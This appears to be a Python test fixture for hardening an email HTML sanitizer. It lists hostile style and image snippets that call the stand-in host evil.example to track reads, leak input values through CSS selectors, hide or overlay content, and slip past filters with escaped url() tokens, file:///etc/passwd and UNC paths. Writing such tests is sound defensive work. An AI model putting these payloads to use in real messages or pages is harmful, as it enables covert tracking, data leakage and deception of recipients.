"""Styles and pictures that tell somebody that a mail was read, or hide our own page."""

from __future__ import annotations

from tests.hardening.hostile.kit import bundle, entity, pages

EVIL = "https://evil.example/seen"

LOOKS = pages(
    {
        "style_element": f"<style>p{{background:url({EVIL})}}</style><p>a</p>",
        "style_import": f"<style>@import '{EVIL}';</style><p>a</p>",
        "style_font_face": f"<style>@font-face{{src:url({EVIL})}}</style><p>a</p>",
        "style_attribute_selector": f"<style>input[value^=a]{{background:url({EVIL})}}</style>a",
        "stylesheet_link": f"<link rel=stylesheet href={EVIL}><p>a</p>",
        "prefetch_link": f"<link rel=prefetch href={EVIL}><link rel=dns-prefetch href={EVIL}>a",
        "background_url": f"<p style='background:url({EVIL})'>a</p>",
        "background_image": f"<p style='background-image:url(&quot;{EVIL}&quot;)'>a</p>",
        "background_attribute": f"<body background={EVIL}><table background={EVIL}><td>a</table>",
        "list_style": f"<ul style='list-style:url({EVIL})'><li>a</ul>",
        "content": f"<p style='content:url({EVIL})'>a</p>",
        "cursor": f"<p style='cursor:url({EVIL}),auto'>a</p>",
        "border_image": f"<p style='border-image:url({EVIL}) 30'>a</p>",
        "mask_filter": f"<p style='mask:url({EVIL});filter:url({EVIL}#x)'>a</p>",
        "image_set": f"<p style='background:image-set(&quot;{EVIL}&quot; 1x)'>a</p>",
        "escaped_url": f"<p style='background:\\75 rl({EVIL})'>a</p>",
        "escaped_url_long": f"<p style='background:u\\000072l({EVIL})'>a</p>",
        "comment_in_url": f"<p style='background:u/**/rl({EVIL})'>a</p>",
        "url_in_colour": f"<p style='color:red;background-color:url({EVIL})'>a</p>",
        "url_in_font": f"<p style='font-family:url({EVIL})'>a</p>",
        "variable": f"<p style='--x:url({EVIL});background:var(--x)'>a</p>",
        "expression": "<p style='width:expression(pwn(1))'>a</p>",
        "behaviour": f"<p style='behavior:url({EVIL});-moz-binding:url({EVIL}#x)'>a</p>",
        "quote_in_style": f'<p style="font-family:&quot;;background:url({EVIL})">a</p>',
        "brace_in_style": f"<p style='color:red}}*{{background:url({EVIL})'>a</p>",
        "semicolon_in_string": f"<p style='font-family:\";background:url({EVIL});\"'>a</p>",
        "overlay": "<div style='position:fixed;top:0;left:0;width:100%;height:100%;z-index:9'>a",
        "invisible": "<div style='opacity:0;display:none;visibility:hidden'>a</div>b",
        "remote_image": f"<img src={EVIL}.gif width=1 height=1>a",
        "remote_image_protocol": "<img src=//evil.example/seen.gif>a",
        "remote_srcset": f"<img src=cid:a srcset='{EVIL} 2x' lowsrc={EVIL} dynsrc={EVIL}>a",
        "picture_source": f"<picture><source srcset={EVIL}><img src=cid:a></picture>a",
        "video_poster": f"<video poster={EVIL}></video><audio src={EVIL}></audio>a",
        "input_image": f"<input type=image src={EVIL}>a",
        "bgsound": f"<bgsound src={EVIL}><frame src={EVIL}><layer src={EVIL}>a",
        "table_cells": f"<table><tr background={EVIL}><td background={EVIL}>a</table>",
        "svg_image": f"<svg><image href={EVIL} /></svg>a",
        "file_image": "<img src=file:///etc/passwd><img src='\\\\evil.example\\share\\x'>a",
    }
) | {
    "picture_of_another_part": bundle(
        [
            entity("text/html; charset=utf-8", f"<img src='cid:x'><img src={EVIL}>"),
            entity("image/svg+xml", f"<svg><image href='{EVIL}'/></svg>", "Content-ID: <x>"),
        ],
        kind="related",
    ),
}
